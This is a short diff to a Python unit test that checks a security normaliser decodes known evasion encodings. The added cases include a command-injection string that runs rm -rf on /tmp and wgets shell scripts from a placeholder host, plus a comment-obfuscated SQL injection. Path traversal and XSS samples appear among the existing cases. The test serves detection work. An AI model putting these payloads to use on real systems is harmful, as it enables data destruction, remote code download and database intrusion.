@@ -49,6 +49,8 @@ def test_known_evasions_normalise() -> None:
         b"..\\..\\windows\\win.ini": b"../../windows/win.ini",
         b"%252e%252e%252f": b"../",
         b"\\x22onmouseover\\x3d": b'"onmouseover=',
+        b"cmd=rm%20-rf%20/tmp/*;wget%20http://x/*.sh": b"cmd=rm -rf /tmp/*;wget http://x/*.sh",
+        b"1'/**/or/*x*/1=1/*": b"1' or 1=1/*",
     }
     for raw, expected in cases.items():
         assert normalise(raw) == expected
